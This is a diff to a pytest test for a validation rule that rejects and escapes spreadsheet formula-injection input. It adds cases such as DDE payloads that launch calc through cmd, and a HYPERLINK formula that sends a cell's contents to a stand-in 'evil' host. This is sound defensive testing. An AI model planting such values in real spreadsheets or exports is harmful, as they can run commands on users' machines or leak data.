@@ -7,7 +7,19 @@ from overnight.validation import rules
 
 
 @pytest.mark.parametrize(
-    "text", ["=1+1", "@SUM(A1)", "-cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1=2", "-3*'other file'!A1", '+HYPERLINK("x")']
+    "text",
+    [
+        "=1+1",
+        "@SUM(A1)",
+        "-cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "+1=2",
+        "-3*'other file'!A1",
+        '+HYPERLINK("x")',
+        "+1e1-cmd|'/c calc'!A0",
+        '-1E1*HYPERLINK("http://evil/?"&A1,"open")',
+        "+1.5e-3+2E+1-cmd|'/c calc'!A0",
+    ],
 )
 def test_what_can_only_be_a_formula_fails_and_is_escaped(text: str) -> None:
     """Blank room before it hides it from a spreadsheet only until somebody trims the cell."""
